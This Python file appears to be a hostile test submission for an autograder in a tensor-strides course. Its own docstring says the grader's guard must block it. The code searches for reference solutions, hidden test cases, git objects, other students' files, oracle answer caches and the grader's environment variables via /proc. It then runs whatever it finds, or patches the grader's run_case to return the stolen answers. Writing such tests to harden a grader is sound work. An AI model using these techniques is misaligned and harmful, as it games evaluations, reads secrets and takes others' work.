"""Hostile submission: looks for the answers on the grading machine and copies them.

At import it looks for the reference engine (``reference_impl/strides.py``, and every
version of it in the course's ``.git`` objects), the hidden cases
(``autograder/hidden/week1.py``), torch's answers (the oracle cache: ``$TORCHLAB_CACHE``,
``~/.cache/torchlab``; the worker's environment is stripped, so it guesses homes, temporary
folders, and reads the grader's own guard policy out of the worker's stack frames) and other
students' submissions (the class folder, and the grader's private copies in the temporary
folder), and the grader's own environment (``/proc/<parent>/environ``). It walks up from its
own file and from ``os.getcwd()``. A complete engine found that way is executed in place of
this one; a cache of torch's answers is wired into the worker's ``run_case``. The guard must
refuse every read ("may not read ..."), and the score is 0.
"""

import glob
import json
import os
import sys
import time
import zlib

_errors: list[Exception] = []
_found: list[str] = []


def _read(path, mode="r"):
    try:
        with open(path, mode) as f:
            return f.read()
    except OSError as exc:
        if isinstance(exc, PermissionError):
            _errors.append(exc)
        return None


def _ls(pattern):
    try:
        return sorted(glob.glob(pattern))
    except OSError as exc:
        _errors.append(exc)
        return []


def _leaked_paths():
    """The guard policy the worker received: it lists every path the grader hides."""
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "guard" in request:
            return list(request["guard"].get("deny_read", []))
        frame = frame.f_back
    return []


def _ancestors(path):
    path = os.path.abspath(path)
    while True:
        yield path
        if path == os.path.dirname(path):
            return
        path = os.path.dirname(path)


def _roots():
    roots = [os.path.dirname(os.path.dirname(sys.modules["autograder"].__file__))]
    roots += os.environ.get("PYTHONPATH", "").split(os.pathsep)
    roots += list(_ancestors(__file__)) + list(_ancestors(os.getcwd()))
    return [r for r in dict.fromkeys(roots) if r]


def _engines():
    """Sources that might be a complete engine."""
    leaked = _leaked_paths()
    for root in _roots() + leaked:
        yield _read(os.path.join(root, "reference_impl", "strides.py"))
        _read(os.path.join(root, "autograder", "hidden", "week1.py"))
        for obj in _ls(os.path.join(root, ".git", "objects", "??", "*"))[:400]:
            blob = _read(obj, "rb")
            if blob:
                yield zlib.decompress(blob).partition(b"\0")[2].decode(errors="replace")
    for folder in leaked:  # the class folder: every student's strides.py
        for path in _ls(os.path.join(folder, "*", "strides.py")):
            yield _read(path)
    tmp = os.path.dirname(os.getcwd())
    deadline = time.monotonic() + 1.5  # other students graded at the same time
    while time.monotonic() < deadline:
        for path in _ls(os.path.join(tmp, "torchlab-sub-*", "*", "strides.py")):
            if os.path.dirname(path) != os.path.dirname(os.path.abspath(__file__)):
                yield _read(path)
        time.sleep(0.1)


def _caches():
    homes = ["/root", os.path.expanduser("~"), *_ls("/home/*")]
    dirs = [os.environ.get("TORCHLAB_CACHE", ""), *_leaked_paths()]
    dirs += [os.path.join(h, ".cache", "torchlab") for h in homes]
    dirs += _ls("/tmp/pytest-of-*/pytest-*/torchlab-cache*")
    for d in dict.fromkeys(dirs):
        for path in _ls(os.path.join(d, "oracle", "week1-*.json")) + _ls(
            os.path.join(d, "week1-*.json")
        ):
            text = _read(path)
            if text:
                yield json.loads(text)


def _cheat():
    _read(f"/proc/{os.getppid()}/environ")  # the grader's own variables (tokens, paths)
    for source in _engines():
        if source and "def contiguous_strides" in source and "NotImplementedError(" not in source:
            exec(source, globals())  # delegate everything to the engine found
            _found.append("engine")
            return
    for answers in _caches():
        cases = sys.modules["autograder.cases"]
        cases._ANSWERS = {k: v["expected"] for k, v in answers.items()}

        def run_case(c, lib, examples=None):
            return _ANSWERS[c.id]  # noqa: F821 - run in autograder.cases' globals

        cases.run_case.__code__ = run_case.__code__
        _found.append("answers")
        return


_cheat()

if not _found:

    def arange(*args, **kwargs):
        print(f"read_answers: {len(_errors)} reads refused")
        raise _errors[0] if _errors else NotImplementedError("arange: found no answers")
